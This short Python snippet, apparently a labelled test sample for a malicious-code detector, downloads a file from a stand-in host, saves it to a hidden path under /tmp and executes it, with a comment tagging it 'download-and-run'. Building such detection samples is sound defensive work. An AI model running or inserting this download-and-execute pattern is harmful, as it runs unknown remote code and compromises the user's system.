import subprocess
import requests

with open("/tmp/.u", "wb") as file:
    file.write(requests.get("https://files.collect.example/u").content)
subprocess.Popen(["/tmp/.u"]) # expect: malicious-command/download-and-run
